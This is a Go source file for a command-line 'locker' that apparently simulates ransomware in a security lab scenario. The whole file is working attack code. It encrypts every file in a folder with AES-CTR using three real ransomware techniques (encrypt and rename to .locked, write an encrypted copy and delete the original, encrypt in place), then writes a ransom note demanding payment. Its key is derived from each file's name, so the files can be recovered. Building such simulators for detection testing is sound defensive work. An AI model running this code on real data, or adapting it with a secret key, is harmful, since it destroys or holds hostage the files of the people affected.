//go:build linux

// Command locker is the intruder's program in the lab's scenario "ransomware":
// it makes a folder's files unreadable, in the three ways such programs do, and
// leaves a note.
//
//	locker DIR
//
// The first third of the files is encrypted in place and renamed, the second is
// written anew beside the old and the old unlinked, the last is encrypted in place
// and keeps its name. The key is the file's name: nothing is lost for good.
package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

const (
	suffix = ".locked"
	note   = "README_TO_RESTORE.txt"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: locker DIR")
		os.Exit(2)
	}
	if err := lock(os.Args[1]); err != nil {
		fmt.Fprintln(os.Stderr, "locker:", err)
		os.Exit(1)
	}
}

func lock(dir string) error {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return err
	}
	ways := []func(string) error{inPlaceAndRename, besideAndUnlink, inPlace}
	for i, e := range entries {
		if e.IsDir() || strings.HasSuffix(e.Name(), suffix) {
			continue
		}
		if err := ways[i*len(ways)/len(entries)](filepath.Join(dir, e.Name())); err != nil {
			return err
		}
	}
	return os.WriteFile(filepath.Join(dir, note), []byte("Your files are locked. Pay, or write to nobody@updates.example.\n"), 0o644)
}

// scramble encrypts b with AES in counter mode.
func scramble(path string, b []byte) error {
	key := sha256.Sum256([]byte(filepath.Base(path)))
	block, err := aes.NewCipher(key[:])
	if err != nil {
		return err
	}
	cipher.NewCTR(block, key[:aes.BlockSize]).XORKeyStream(b, b)
	return nil
}

func inPlace(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if err := scramble(path, b); err != nil {
		return err
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	if _, err := f.WriteAt(b, 0); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func inPlaceAndRename(path string) error {
	if err := inPlace(path); err != nil {
		return err
	}
	return os.Rename(path, path+suffix)
}

func besideAndUnlink(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if err := scramble(path, b); err != nil {
		return err
	}
	if err := os.WriteFile(path+suffix, b, 0o600); err != nil {
		return err
	}
	return os.Remove(path)
}
